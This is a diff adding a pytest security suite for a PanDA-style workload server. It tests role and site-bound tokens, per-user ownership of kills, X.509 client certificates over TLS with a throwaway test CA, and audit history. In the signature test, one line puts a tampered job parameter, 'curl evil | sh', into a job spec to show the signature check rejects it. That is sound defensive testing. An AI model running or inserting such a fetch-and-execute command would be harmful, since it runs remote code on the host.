@@ -1,0 +1,312 @@
+"""Security basics over real HTTP(S): roles, site-bound pilot tokens, ownership, X.509 client
+certificates over TLS (a test CA made here with cryptography), the identity recorded with what it
+did, and job-spec signatures verifiable with the published key."""
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import ipaddress
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import requests
+from cryptography import x509
+from cryptography.exceptions import InvalidSignature
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.hazmat.primitives.serialization import load_pem_public_key
+from cryptography.x509.oid import NameOID
+
+from conftest import SITE
+from panda_wms.client import PandaClient
+from testkit import EXAMPLE_SITES, free_port
+
+OTHER = "OTHER_SITE"
+TASK = {"name": "sec", "transformation": "/bin/true", "n_jobs": 2}
+
+
+def pilot(server_url, method, token=None, cert=None, verify=None, **form):
+    headers = {"Accept": "application/json"}
+    if token:
+        headers["Authorization"] = f"Bearer {token}"
+    resp = requests.post(f"{server_url}/server/panda/{method}", data=form, headers=headers,
+                         cert=cert, verify=verify if verify is not None else True, timeout=10)
+    assert resp.status_code == 200, resp.text
+    return resp.json()
+
+
+@pytest.fixture
+def two_sites(tmp_path) -> Path:
+    sites = tmp_path / "sites"
+    sites.mkdir()
+    shutil.copy(EXAMPLE_SITES / f"{SITE}.yaml", sites)
+    text = (EXAMPLE_SITES / f"{SITE}.yaml").read_text().replace(f"name: {SITE}", f"name: {OTHER}")
+    (sites / f"{OTHER}.yaml").write_text(text)
+    return sites
+
+
+@pytest.fixture
+def token_server(tmp_path, two_sites, monkeypatch):
+    from testkit import start_server, stop_server
+    monkeypatch.setenv("PANDA_SE_ROOT", str(tmp_path / "se"))
+    server = start_server(tmp_path / "srv", site_dir=two_sites)
+    yield server
+    stop_server(server)
+
+
+def test_pilot_token_bound_to_its_site(token_server):
+    s = token_server
+    alice = PandaClient(s.url, s.token("user", "alice"))
+    alice.submit_task({**TASK, "site": SITE})
+    other_task = alice.submit_task({**TASK, "site": OTHER})
+    bound = s.token("pilot", "wn-local", site=SITE)
+    reply = pilot(s.url, "getJob", bound, siteName=OTHER)
+    assert reply["StatusCode"] == 70 and "may not take jobs of OTHER_SITE" in reply["errorDialog"]
+    assert pilot(s.url, "getJob", bound, siteName=SITE)["StatusCode"] == 0
+    # a job at the other site, taken by an unbound pilot, may not be updated with the bound token
+    job = pilot(s.url, "getJob", s.token("pilot", "wn-any"), siteName=OTHER)
+    reply = pilot(s.url, "updateJob", bound, jobId=job["PandaID"], state="failed",
+                  pilotErrorCode="1099")
+    assert reply["StatusCode"] == 70 and "may not update jobs of OTHER_SITE" in reply["errorDialog"]
+    statuses = alice.task_details(other_task)["jobs"]
+    assert statuses == {"activated": 1, "sent": 1}
+
+
+def test_roles_and_missing_or_forged_tokens(token_server):
+    s = token_server
+    alice = PandaClient(s.url, s.token("user", "alice"))
+    alice.submit_task({**TASK, "site": SITE})
+    assert pilot(s.url, "getJob", siteName=SITE)["StatusCode"] == 50
+    reply = pilot(s.url, "getJob", "forged.token", siteName=SITE)
+    assert reply["StatusCode"] == 50 and "does not verify" in reply["errorDialog"]
+    reply = pilot(s.url, "getJob", s.token("user", "alice"), siteName=SITE)
+    assert reply["StatusCode"] == 60 and "role user may not getJob" in reply["errorDialog"]
+    api = f"{s.url}/api/v1"
+    resp = requests.post(f"{api}/task/submit", json={"task_parameters": TASK}, timeout=5,
+                         headers={"Authorization": f"Bearer {s.token('pilot', 'p')}"})
+    assert resp.status_code == 403 and "role pilot may not" in resp.json()["message"]
+    resp = requests.post(f"{api}/site/sync", json={"sites": []}, timeout=5,
+                         headers={"Authorization": f"Bearer {s.token('user', 'alice')}"})
+    assert resp.status_code == 403
+    # an expired token is refused
+    from server.auth import KeyStore
+    expired = KeyStore(s.key_dir).issue_token("alice", "user", lifetime_s=-10)
+    resp = requests.post(f"{api}/task/submit", json={"task_parameters": TASK}, timeout=5,
+                         headers={"Authorization": f"Bearer {expired}"})
+    assert resp.status_code == 403 and "expired" in resp.json()["message"]
+    assert [t["taskName"] for t in alice.call("task", "list")] == ["sec"]
+
+
+def test_users_kill_only_their_own_admin_kills_all(token_server):
+    s = token_server
+    alice = PandaClient(s.url, s.token("user", "alice"))
+    bob = PandaClient(s.url, s.token("user", "bob"))
+    admin = PandaClient(s.url, s.token("admin", "root-op"))
+    t1 = alice.submit_task({**TASK, "site": SITE})
+    t2 = alice.submit_task({**TASK, "name": "sec2", "site": SITE})
+    jobs = alice.call("task", "get_job_ids", task_id=t1)
+    assert bob.call("job", "kill", "POST", job_ids=jobs) == [False, False]
+    resp = requests.post(f"{s.url}/api/v1/task/kill", json={"task_id": t1}, timeout=5,
+                         headers={"Authorization": f"Bearer {s.token('user', 'bob')}"})
+    assert resp.status_code == 200 and resp.json()["success"] is False
+    assert "permission denied: task" in resp.json()["message"]
+    assert alice.task_details(t1)["jobs"] == {"activated": 2}
+    assert alice.call("job", "kill", "POST", job_ids=jobs[:1]) == [True]
+    admin.call("task", "kill", "POST", task_id=t2)
+    assert alice.task_details(t2)["status"] == "aborted"
+    history = alice.call("job", "get_history", job_id=jobs[0])
+    assert history[-1]["new_status"] == "cancelled" and history[-1]["actor"] == "alice"
+    killed = alice.call("job", "get_history", job_id=alice.call("task", "get_job_ids",
+                                                                 task_id=t2)[0])
+    assert killed[-1]["actor"] == "root-op"
+
+
+def test_job_spec_signature_verifies_with_published_key(token_server):
+    s = token_server
+    PandaClient(s.url, s.token("user", "alice")).submit_task({**TASK, "site": SITE})
+    pem_well_known = requests.get(f"{s.url}/.well-known/panda-jobspec-key.pem", timeout=5).text
+    pem_api = requests.get(f"{s.url}/api/v1/system/get_public_key", timeout=5).json()["data"]
+    assert pem_well_known == pem_api and "BEGIN PUBLIC KEY" in pem_api
+    key = load_pem_public_key(pem_api.encode())
+    job = pilot(s.url, "getJob", s.token("pilot", "p", site=SITE), siteName=SITE)
+    job.pop("StatusCode")
+    signature = base64.b64decode(job.pop("specSignature"))
+    canonical = json.dumps(job, sort_keys=True, separators=(",", ":")).encode()
+    key.verify(signature, canonical)
+    tampered = dict(job, jobPars="-c 'curl evil | sh'")
+    with pytest.raises(InvalidSignature):
+        key.verify(signature, json.dumps(tampered, sort_keys=True, separators=(",", ":")).encode())
+
+
+# ---------------------------------------------------------------------- X.509 over TLS
+def _name(cn: str) -> x509.Name:
+    return x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "CH"),
+                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, "panda-wms test"),
+                      x509.NameAttribute(NameOID.COMMON_NAME, cn)])
+
+
+def _cert(subject, issuer, key, signing_key, ca=False, server=False):
+    now = dt.datetime.now(dt.timezone.utc)
+    builder = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer)
+               .public_key(key.public_key()).serial_number(x509.random_serial_number())
+               .not_valid_before(now - dt.timedelta(minutes=5))
+               .not_valid_after(now + dt.timedelta(days=1))
+               .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
+    if server:
+        builder = builder.add_extension(x509.SubjectAlternativeName(
+            [x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
+            critical=False)
+    return builder.sign(signing_key, hashes.SHA256())
+
+
+def _pem(obj) -> bytes:
+    if isinstance(obj, x509.Certificate):
+        return obj.public_bytes(serialization.Encoding.PEM)
+    return obj.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                             serialization.NoEncryption())
+
+
+class CertAuthority:
+    """A CA, the server's certificate and client certificates, written as PEM files."""
+
+    def __init__(self, folder: Path, cn: str = "panda-wms test CA"):
+        self.folder = folder
+        folder.mkdir(parents=True, exist_ok=True)
+        self.key = ec.generate_private_key(ec.SECP256R1())
+        self.cert = _cert(_name(cn), _name(cn), self.key, self.key, ca=True)
+        self.ca_file = folder / "ca.pem"
+        self.ca_file.write_bytes(_pem(self.cert))
+
+    def issue(self, cn: str, server: bool = False) -> tuple[Path, Path]:
+        key = ec.generate_private_key(ec.SECP256R1())
+        cert = _cert(_name(cn), self.cert.subject, key, self.key, server=server)
+        cert_file, key_file = self.folder / f"{cn}.crt", self.folder / f"{cn}.key"
+        cert_file.write_bytes(_pem(cert))
+        key_file.write_bytes(_pem(key))
+        key_file.chmod(0o600)
+        return cert_file, key_file
+
+
+def dn(cn: str) -> str:
+    return f"/C=CH/O=panda-wms test/CN={cn}"
+
+
+@pytest.fixture
+def tls_server(tmp_path, two_sites, monkeypatch):
+    monkeypatch.setenv("PANDA_SE_ROOT", str(tmp_path / "se"))
+    ca = CertAuthority(tmp_path / "pki")
+    server_cert, server_key = ca.issue("localhost", server=True)
+    port = free_port()
+    log_path = tmp_path / "tls-server.log"
+    cmd = [sys.executable, "-m", "panda_wms.cli", "server", "--db",
+           f"sqlite:///{tmp_path / 'tls.db'}", "--host", "127.0.0.1", "--port", str(port),
+           "--key-dir", str(tmp_path / "keys"), "--site-configs", str(two_sites),
+           "--certfile", str(server_cert), "--keyfile", str(server_key), "--ca", str(ca.ca_file),
+           "--admin-dn", dn("operator"), "--pilot-dn", dn("pilot-wn")]
+    with open(log_path, "w") as logf:
+        proc = subprocess.Popen(cmd, stdout=logf, stderr=subprocess.STDOUT,
+                                env={**os.environ, "PANDA_CACHE_DIR": str(tmp_path / "cache")},
+                                start_new_session=True)
+    url = f"https://127.0.0.1:{port}"
+    deadline = time.monotonic() + 20
+    while True:
+        try:
+            requests.get(f"{url}/api/v1/system/is_alive", verify=str(ca.ca_file), timeout=1)
+            break
+        except requests.RequestException:
+            if proc.poll() is not None or time.monotonic() > deadline:
+                proc.kill()
+                pytest.fail(f"TLS server did not start:\n{log_path.read_text()}")
+            time.sleep(0.1)
+    yield url, ca, tmp_path
+    proc.send_signal(signal.SIGTERM)
+    try:
+        proc.wait(10)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        proc.wait()
+
+
+def test_x509_identity_is_recorded_with_what_it_did(tls_server):
+    url, ca, _ = tls_server
+    verify = str(ca.ca_file)
+    alice, bob = ca.issue("alice"), ca.issue("bob")
+    operator, wn = ca.issue("operator"), ca.issue("pilot-wn")
+
+    def api(cert, method, path, **body):
+        resp = requests.request(method, f"{url}/api/v1/{path}", cert=cert, verify=verify,
+                                timeout=10, **({"json": body} if method == "POST" else
+                                               {"params": body}))
+        return resp.status_code, resp.json()
+
+    status, who = api(alice, "GET", "system/whoami")
+    assert who["data"] == {"subject": dn("alice"), "role": "user", "site": None}
+    assert api(operator, "GET", "system/whoami")[1]["data"]["role"] == "admin"
+    # without a certificate: reads yes, writes no
+    status, reply = api(None, "POST", "task/submit", task_parameters={**TASK, "site": SITE})
+    assert reply["success"] is False and "secure connection required" in reply["message"]
+    status, reply = api(alice, "POST", "task/submit", task_parameters={**TASK, "site": SITE})
+    assert reply["success"], reply
+    task_id = reply["data"]
+    status, task = api(alice, "GET", "task/get_details", task_id=task_id)
+    assert task["data"]["owner"] == dn("alice")
+    # the user certificate may not take jobs; the pilot certificate may, and is recorded
+    assert pilot(url, "getJob", cert=alice, verify=verify, siteName=SITE)["StatusCode"] == 60
+    job = pilot(url, "getJob", cert=wn, verify=verify, siteName=SITE)
+    assert job["StatusCode"] == 0
+    assert pilot(url, "updateJob", cert=wn, verify=verify, jobId=job["PandaID"],
+                 state="running")["StatusCode"] == 0
+    status, hist = api(alice, "GET", "job/get_history", job_id=job["PandaID"])
+    assert [(h["new_status"], h["actor"]) for h in hist["data"]] == [
+        ("defined", dn("alice")), ("activated", "brokerage"), ("sent", dn("pilot-wn")),
+        ("running", dn("pilot-wn"))]
+    # bob may not kill alice's task; the operator (admin DN) may
+    status, reply = api(bob, "POST", "task/kill", task_id=task_id)
+    assert reply["success"] is False and "permission denied" in reply["message"]
+    status, reply = api(operator, "POST", "task/kill", task_id=task_id)
+    assert reply["success"] is True
+    status, hist = api(alice, "GET", "job/get_history", job_id=job["PandaID"])
+    assert hist["data"][-1]["actor"] == dn("operator")
+
+
+def test_x509_certificate_from_unknown_ca_is_refused(tls_server):
+    url, ca, tmp = tls_server
+    rogue = CertAuthority(tmp / "rogue", cn="rogue CA").issue("alice")   # same DN, other CA
+    try:
+        resp = requests.post(f"{url}/api/v1/task/submit", cert=rogue, verify=str(ca.ca_file),
+                             json={"task_parameters": {**TASK, "site": SITE}}, timeout=10)
+    except requests.exceptions.SSLError:   # the server ends the handshake (alert or EOF)
+        pass
+    else:   # had the handshake passed, the caller must still be unknown
+        assert resp.json()["success"] is False
+    resp = requests.get(f"{url}/api/v1/task/list", cert=ca.issue("alice2"),
+                        verify=str(ca.ca_file), timeout=5)
+    assert resp.json()["data"] == []      # nothing was created
+
+
+def test_panda_client_over_https_with_x509(tls_server, compat_venv):
+    """PanDA's own client with a grid-style proxy file (certificate, key, CA chain in one PEM)."""
+    url, ca, tmp = tls_server
+    cert, key = ca.issue("carol")
+    proxy = tmp / "x509up_carol"
+    proxy.write_bytes(cert.read_bytes() + key.read_bytes() + ca.ca_file.read_bytes())
+    proxy.chmod(0o600)
+    script = Path(__file__).with_name("pandaclient_roundtrip.py")
+    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp), "PANDA_CONFIG_ROOT": str(tmp),
+           "PANDA_URL_SSL": url + "/server/panda", "PANDA_URL": url + "/server/panda",
+           "PANDACACHE_URL": url + "/server/panda", "PANDA_BEHIND_REAL_LB": "1",
+           "X509_USER_PROXY": str(proxy), "X509_CERT_DIR": str(tmp / "no-such-dir")}
+    proc = subprocess.run([str(compat_venv / "bin" / "python"), str(script), SITE, "jobs"],
+                          env=env, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    res = json.loads(proc.stdout.strip().splitlines()[-1])
+    assert res["submit"][0] == 0 and len(res["submit"][1]) == 2
+    assert {j["prodUserName"] for j in res["status"][1][:2]} == {dn("carol")}
+    assert res["kill"] == [0, [True]]
